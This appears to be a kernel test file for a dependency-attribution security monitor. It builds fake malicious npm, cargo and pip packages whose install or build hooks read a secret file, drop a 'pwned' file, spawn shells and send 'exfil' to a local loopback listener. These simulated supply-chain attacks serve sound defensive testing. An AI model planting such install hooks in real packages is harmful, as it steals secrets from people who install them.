/**
 * Dependency attribution on the real kernel with real package managers:
 * a malicious local npm package in a real `npm install`, a cargo build
 * script of a path dependency, a pip sdist build; every event of their
 * scripts names the package, the project's own scripts do not. And the
 * capture itself: a package manager's child is recorded at exec (its
 * environment's both ends, its working directory) and marked
 * SCOPE_DEP_PENDING when asked, inherited at fork.
 */
import assert from "node:assert/strict";
import { Agent, parsePolicy, type RingfenceEvent } from "../mod.ts";
import type { Dependency } from "../sensors/event.ts";
import { closeSensors, loadSensors } from "../agent/load.ts";
import { prepareScope } from "../agent/scope.ts";
import {
  decodeDependencyCapture,
  type DependencyCapture,
} from "../sensors/dependency_event.ts";
import { EVENT_HEADER, TimeFormatter } from "../sensors/event.ts";
import { ProcessKind, ScopeFlag } from "../sensors/process.ts";
import { kernelTest, rootShell } from "./helpers/kernel.ts";

/** Whether `tool` runs here (`tool --version`). */
async function has(tool: string): Promise<boolean> {
  try {
    const { success } = await new Deno.Command(tool, {
      args: ["--version"],
      stdout: "null",
      stderr: "null",
    }).output();
    return success;
  } catch {
    return false;
  }
}

/** Runs a command, failing the test with its output when it fails. */
async function run(
  command: string,
  args: string[],
  options: { cwd?: string; env?: Record<string, string> } = {},
): Promise<string> {
  const output = await new Deno.Command(command, {
    args,
    cwd: options.cwd,
    env: options.env,
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).output();
  const decoder = new TextDecoder();
  const text = decoder.decode(output.stdout) + decoder.decode(output.stderr);
  assert.ok(output.success, `${command} ${args.join(" ")} failed:\n${text}`);
  return text;
}

/** Starts an agent for the commands this test spawns; events into `events`. */
async function watch(
  policy: string,
  events: RingfenceEvent[],
): Promise<Agent> {
  const agent = await Agent.start({
    policy: parsePolicy(policy, "inline.yaml"),
    spawner: true,
  });
  agent.subscribe((event) => events.push(event));
  return agent;
}

/** The events of the process that exec'd a program matching `argv`. */
function execOf(
  events: RingfenceEvent[],
  test: (argv: string[]) => boolean,
): RingfenceEvent & { argv?: string[] } {
  const found = events.find((event) =>
    event.type === "process_event" && event.kind === "exec" &&
    test(event.argv ?? [])
  );
  assert.ok(
    found,
    `no exec matching ${test}; execs: ${
      JSON.stringify(
        events.filter((event) => event.kind === "exec").map((event) =>
          (event as { argv?: string[] }).argv
        ),
      )
    }`,
  );
  return found as RingfenceEvent & { argv?: string[] };
}

const EVIL_NPM = {
  ecosystem: "npm",
  name: "evil",
  version: "1.0.0",
  manager: "npm",
} as const;

kernelTest(
  "npm install of a malicious local package: every event of its scripts names it, the project's own script does not",
  async () => {
    if (!await has("npm")) {
      console.log("skipped: npm is not installed");
      return;
    }
    const dir = await Deno.realPath(await Deno.makeTempDir());
    const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const port = (listener.addr as Deno.NetAddr).port;
    let received = "";
    const accepting = (async () => {
      for await (const connection of listener) {
        const buffer = new Uint8Array(256);
        const read = await connection.read(buffer);
        if (read) {
          received += new TextDecoder().decode(buffer.subarray(0, read));
        }
        connection.close();
      }
    })();
    const events: RingfenceEvent[] = [];
    let agent: Agent | undefined;
    try {
      // The package, packed as a registry would serve it.
      await Deno.mkdir(`${dir}/evil`);
      await Deno.writeTextFile(`${dir}/secret.txt`, "TOKEN=s3cret\n");
      await Deno.writeTextFile(
        `${dir}/evil/postinstall.js`,
        [
          `const net = require("node:net");`,
          `const fs = require("node:fs");`,
          `const { spawnSync } = require("node:child_process");`,
          `fs.writeFileSync(${JSON.stringify(`${dir}/dropped.txt`)}, "pwned");`,
          // A child with an empty environment: named all the same.
          `spawnSync("/usr/bin/env", ["-i", "/bin/sh", "-c", "echo clean > ${dir}/envi.txt"]);`,
          `const socket = net.connect(${port}, "127.0.0.1", () => socket.end("exfil"));`,
        ].join("\n"),
      );
      await Deno.writeTextFile(
        `${dir}/evil/package.json`,
        JSON.stringify({
          name: "evil",
          version: "1.0.0",
          scripts: {
            preinstall: `cat ${dir}/secret.txt > /dev/null`,
            // exits at once: its process is gone before anyone could read /proc
            install: "true",
            postinstall: "node postinstall.js",
          },
        }),
      );
      await run("npm", ["pack", "--silent"], { cwd: `${dir}/evil` });
      await Deno.mkdir(`${dir}/project`);
      await Deno.writeTextFile(
        `${dir}/project/package.json`,
        JSON.stringify({
          name: "project",
          version: "0.0.1",
          scripts: { build: `cat ${dir}/project/package.json > /dev/null` },
        }),
      );

      agent = await watch(
        [
          "version: 1",
          "mode: audit",
          "network:",
          "  loopback: deny",
          "files:",
          `  watch: ["${dir}/**"]`,
          `  secrets: ["${dir}/secret.txt"]`,
          "",
        ].join("\n"),
        events,
      );
      const decided: [number, Dependency | undefined][] = [];
      agent.dependencies.onDecide((pid, dependency) =>
        decided.push([pid, dependency])
      );
      await run("npm", [
        "install",
        `${dir}/evil/evil-1.0.0.tgz`,
        "--offline",
        "--no-audit",
        "--no-fund",
        "--foreground-scripts",
      ], { cwd: `${dir}/project` });
      await run("npm", ["run", "build"], { cwd: `${dir}/project` });
      // the listener has the bytes: the script really ran and connected
      for (let i = 0; i < 100 && !received; i++) {
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      agent.flush();
      assert.equal(received, "exfil");
      assert.equal(await Deno.readTextFile(`${dir}/dropped.txt`), "pwned");
      assert.equal(await Deno.readTextFile(`${dir}/envi.txt`), "clean\n");

      const dependencyOf = (event: RingfenceEvent) =>
        (event as { dependency?: Dependency }).dependency;
      // preinstall: the shell and the cat it runs, and the secret read
      const pre = execOf(events, (argv) =>
        argv.includes("cat") &&
        argv.join(" ").includes("secret.txt"));
      assert.deepEqual(dependencyOf(pre), {
        ...EVIL_NPM,
        script: "preinstall",
      });
      const secretRead = events.find((event) =>
        event.type === "file_system_event" && event.path === `${dir}/secret.txt`
      );
      assert.ok(secretRead, "the secret read was reported");
      assert.deepEqual(dependencyOf(secretRead), {
        ...EVIL_NPM,
        script: "preinstall",
      });
      // install: `sh -c true`, gone at once
      const install = execOf(
        events,
        (argv) => argv.at(-1) === "true" && argv.includes("-c"),
      );
      assert.deepEqual(dependencyOf(install), {
        ...EVIL_NPM,
        script: "install",
      });
      // postinstall: node, its file write, its connection, its env -i child
      const post = { ...EVIL_NPM, script: "postinstall" };
      const node = execOf(events, (argv) => argv.includes("postinstall.js"));
      assert.deepEqual(dependencyOf(node), post);
      const connect = events.find((event) =>
        event.type === "network_event" && event.dport === port
      );
      assert.ok(connect, "the connection was reported");
      assert.deepEqual(dependencyOf(connect), post);
      const drop = events.find((event) =>
        event.type === "file_system_event" &&
        event.path === `${dir}/dropped.txt`
      );
      assert.ok(drop, "the dropped file's write was reported");
      assert.deepEqual(dependencyOf(drop), post);
      const cleared = execOf(events, (argv) =>
        argv[0] === "/bin/sh" &&
        (argv.at(-1) ?? "").includes("envi.txt"));
      assert.deepEqual(dependencyOf(cleared), post);
      const env = execOf(
        events,
        (argv) => argv[0] === "/usr/bin/env" && argv[1] === "-i",
      );
      assert.deepEqual(dependencyOf(env), post);
      // every event of the postinstall's processes carries it
      for (const event of events) {
        if (event.type === "agent") continue;
        if (event.pid === node.pid || event.pid === cleared.pid) {
          assert.deepEqual(dependencyOf(event), post, JSON.stringify(event));
        }
      }
      // the project's own script: not a dependency
      const build = execOf(
        events,
        (argv) =>
          argv[0] === "cat" && argv.includes(`${dir}/project/package.json`),
      );
      assert.equal(dependencyOf(build), undefined);
      // nor npm itself
      for (const event of events) {
        if (event.type === "agent") continue;
        if (event.comm.startsWith("npm ")) {
          assert.equal(dependencyOf(event), undefined, JSON.stringify(event));
        }
      }
      // onDecide heard each candidate: the scripts named, `npm run build`'s not
      for (const script of ["preinstall", "install", "postinstall"]) {
        assert.ok(
          decided.some(([, dep]) => dep?.script === script),
          `onDecide named the ${script}`,
        );
      }
      assert.ok(decided.some(([pid, dep]) => pid === install.pid && dep));
      assert.ok(
        decided.some(([, dep]) => !dep),
        "onDecide heard `npm run build`",
      );
    } finally {
      await agent?.stop();
      listener.close();
      await accepting.catch(() => {});
      await Deno.remove(dir, { recursive: true });
    }
  },
);

kernelTest(
  "cargo build: a path dependency's build script and its command are named",
  async () => {
    if (!await has("cargo")) {
      console.log("skipped: cargo is not installed");
      return;
    }
    const dir = await Deno.realPath(await Deno.makeTempDir());
    const events: RingfenceEvent[] = [];
    let agent: Agent | undefined;
    try {
      await Deno.mkdir(`${dir}/evil/src`, { recursive: true });
      await Deno.mkdir(`${dir}/app/src`, { recursive: true });
      await Deno.writeTextFile(
        `${dir}/evil/Cargo.toml`,
        '[package]\nname = "evil-crate"\nversion = "0.3.1"\nedition = "2021"\n',
      );
      await Deno.writeTextFile(`${dir}/evil/src/lib.rs`, "pub fn f() {}\n");
      await Deno.writeTextFile(
        `${dir}/evil/build.rs`,
        `fn main() {
    std::process::Command::new("/bin/sh")
        .args(["-c", "echo built > ${dir}/built.txt"])
        .status()
        .unwrap();
}
`,
      );
      await Deno.writeTextFile(
        `${dir}/app/Cargo.toml`,
        '[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n' +
          '[dependencies]\nevil-crate = { path = "../evil" }\n',
      );
      // The project's own build script: not a dependency's.
      await Deno.writeTextFile(
        `${dir}/app/build.rs`,
        `fn main() {
    std::process::Command::new("/bin/sh")
        .args(["-c", "echo own > ${dir}/own.txt"])
        .status()
        .unwrap();
}
`,
      );
      await Deno.writeTextFile(
        `${dir}/app/src/main.rs`,
        "fn main() { evil_crate::f(); }\n",
      );
      agent = await watch("version: 1\nmode: audit\n", events);
      await run("cargo", ["build", "--offline", "--quiet"], {
        cwd: `${dir}/app`,
        env: {
          CARGO_HOME: `${dir}/cargo-home`,
          CARGO_TARGET_DIR: `${dir}/app/target`,
        },
      });
      agent.flush();
      assert.equal(await Deno.readTextFile(`${dir}/built.txt`), "built\n");
      const expected = {
        ecosystem: "cargo",
        name: "evil-crate",
        version: "0.3.1",
        script: "build.rs",
        manager: "cargo",
      };
      const script = execOf(
        events,
        (argv) =>
          /\/build\/evil-crate-[0-9a-f]+\/build-script-build$/.test(
            argv[0] ?? "",
          ),
      );
      assert.deepEqual(
        (script as { dependency?: Dependency }).dependency,
        expected,
      );
      const command = execOf(
        events,
        (argv) => (argv.at(-1) ?? "").includes("built.txt"),
      );
      assert.deepEqual(
        (command as { dependency?: Dependency }).dependency,
        expected,
      );
      const own = execOf(
        events,
        (argv) => (argv.at(-1) ?? "").includes("own.txt"),
      );
      assert.equal((own as { dependency?: Dependency }).dependency, undefined);
      const rustc = events.filter((event) =>
        event.kind === "exec" && event.comm === "rustc"
      );
      assert.ok(rustc.length > 0);
      for (const event of rustc) {
        assert.equal(
          (event as { dependency?: Dependency }).dependency,
          undefined,
        );
      }
    } finally {
      await agent?.stop();
      await Deno.remove(dir, { recursive: true });
    }
  },
);

/** A minimal PEP 517 backend that runs a command when asked for a wheel. */
const BACKEND = `
import base64, hashlib, os, subprocess, zipfile

NAME, VERSION = "evilpy", "0.1.0"

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    subprocess.run(["/bin/sh", "-c", os.environ.get("RF_CMD", "true")], check=True)
    dist = f"{NAME}-{VERSION}.dist-info"
    files = {
        f"{dist}/METADATA": f"Metadata-Version: 2.1\\nName: {NAME}\\nVersion: {VERSION}\\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\\nGenerator: rf\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }
    record = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(text)}")
    record.append(f"{dist}/RECORD,,")
    files[f"{dist}/RECORD"] = "\\n".join(record) + "\\n"
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)
    return name
`;

kernelTest(
  "pip install of a local sdist: its build backend and the command it runs are named",
  async () => {
    const pip = await has("pip3") ? "pip3" : await has("pip") ? "pip" : "";
    if (!pip) {
      console.log("skipped: pip is not installed");
      return;
    }
    const dir = await Deno.realPath(await Deno.makeTempDir());
    const events: RingfenceEvent[] = [];
    let agent: Agent | undefined;
    try {
      // The sdist carries its own build backend: nothing to download,
      // setuptools not needed.
      const src = `${dir}/evilpy-0.1.0`;
      await Deno.mkdir(src);
      await Deno.writeTextFile(`${src}/backend.py`, BACKEND);
      await Deno.writeTextFile(
        `${src}/pyproject.toml`,
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
      );
      await Deno.writeTextFile(
        `${src}/PKG-INFO`,
        "Metadata-Version: 2.1\nName: evilpy\nVersion: 0.1.0\n",
      );
      await run("tar", ["czf", "evilpy-0.1.0.tar.gz", "evilpy-0.1.0"], {
        cwd: dir,
      });
      agent = await watch("version: 1\nmode: audit\n", events);
      await run(pip, [
        "install",
        "--no-index",
        "--no-build-isolation",
        "--disable-pip-version-check",
        "--target",
        `${dir}/target`,
        `${dir}/evilpy-0.1.0.tar.gz`,
      ], {
        cwd: dir,
        env: { RF_CMD: `echo built > ${dir}/built.txt` },
      });
      agent.flush();
      assert.equal(await Deno.readTextFile(`${dir}/built.txt`), "built\n");
      const expected = {
        ecosystem: "pypi",
        name: "evilpy",
        version: "0.1.0",
        script: "build",
        manager: "pip",
      };
      const backend = execOf(
        events,
        (argv) => argv.some((arg) => arg.endsWith("_in_process.py")),
      );
      assert.deepEqual(
        (backend as { dependency?: Dependency }).dependency,
        expected,
      );
      const command = execOf(
        events,
        (argv) => (argv.at(-1) ?? "").includes("built.txt"),
      );
      assert.deepEqual(
        (command as { dependency?: Dependency }).dependency,
        expected,
      );
      // pip itself is not a dependency
      const pipExec = events.filter((event) =>
        event.kind === "exec" && event.comm === "pip"
      );
      for (const event of pipExec) {
        assert.equal(
          (event as { dependency?: Dependency }).dependency,
          undefined,
        );
      }
    } finally {
      await agent?.stop();
      await Deno.remove(dir, { recursive: true });
    }
  },
);

kernelTest(
  "a package manager's child is captured at exec: both ends of a large environment, its cwd, SCOPE_DEP_PENDING inherited at fork",
  async () => {
    const dir = await Deno.realPath(await Deno.makeTempDir());
    const sensors = await loadSensors({ files: false });
    try {
      const { process } = sensors;
      prepareScope(process, true, []);
      process.setPackageManagers(["rfpkgmgr"]);
      process.setDependencyPending(true);
      process.attach();
      const manager = await rootShell(dir, "rfpkgmgr");
      const other = await rootShell(dir, "rfother");
      // A large environment: a marker at each end, the middle beyond what
      // is captured.
      const env: Record<string, string> = { RF_FIRST: "head-marker" };
      for (let i = 0; i < 400; i++) env[`RF_FILL_${i}`] = "x".repeat(100);
      env.RF_LAST = "tail-marker";
      // `; true` keeps bash from exec'ing the shell in its own process.
      const script = `/bin/sh -c '/bin/sleep 1 & echo $$ $!; wait'; true`;
      const spawn = (shell: string) =>
        new Deno.Command(shell, {
          args: ["-c", script],
          cwd: dir,
          env,
          clearEnv: true,
          stdout: "piped",
        }).spawn();
      const child = spawn(manager);
      const outsider = spawn(other);
      const [childOut, outsiderOut] = await Promise.all([
        readLine(child.stdout),
        readLine(outsider.stdout),
      ]);
      const [shPid, sleepPid] = childOut.split(" ").map(Number);
      const [otherSh, otherSleep] = outsiderOut.split(" ").map(Number);
      const pending = (pid: number) =>
        ((process.scopeOf(pid)?.flags ?? 0) & ScopeFlag.depPending) !== 0;
      assert.ok(pending(shPid), "the manager's child is pending");
      assert.ok(pending(sleepPid), "its child inherits it at fork");
      assert.ok(!pending(child.pid), "the manager itself is not");
      assert.ok(!pending(otherSh) && !pending(otherSleep), "others are not");
      await Promise.all([child.status, outsider.status]);

      const captures: DependencyCapture[] = [];
      const time = new TimeFormatter();
      process.drain((view, offset) => {
        if (
          view.getUint8(offset + EVENT_HEADER.fields.kind) ===
            ProcessKind.dependency
        ) {
          captures.push(decodeDependencyCapture(view, offset, time));
        }
      });
      const mine = captures.filter((capture) => capture.pid === shPid);
      assert.equal(mine.length, 1, JSON.stringify(captures.map((c) => c.pid)));
      const [capture] = mine;
      assert.equal(capture.manager, "rfpkgmgr");
      assert.equal(capture.ppid, child.pid);
      assert.equal(capture.path, "/bin/sh");
      assert.equal(capture.cwd, dir);
      assert.ok(capture.pending);
      assert.ok(capture.envCut, "the environment's middle is cut");
      assert.equal(capture.env.get("RF_FIRST"), "head-marker");
      assert.equal(capture.env.get("RF_LAST"), "tail-marker");
      for (const [name, value] of capture.env) {
        if (name.startsWith("RF_FILL_")) assert.equal(value, "x".repeat(100));
      }
      assert.ok(
        !captures.some((c) => c.pid === otherSh || c.pid === sleepPid),
        "only a manager's own children are captured",
      );
    } finally {
      closeSensors(sensors);
      await Deno.remove(dir, { recursive: true });
    }
  },
);

async function readLine(stream: ReadableStream<Uint8Array>): Promise<string> {
  let text = "";
  const decoder = new TextDecoder();
  for await (const chunk of stream) {
    text += decoder.decode(chunk);
    if (text.includes("\n")) break;
  }
  return text.trim();
}
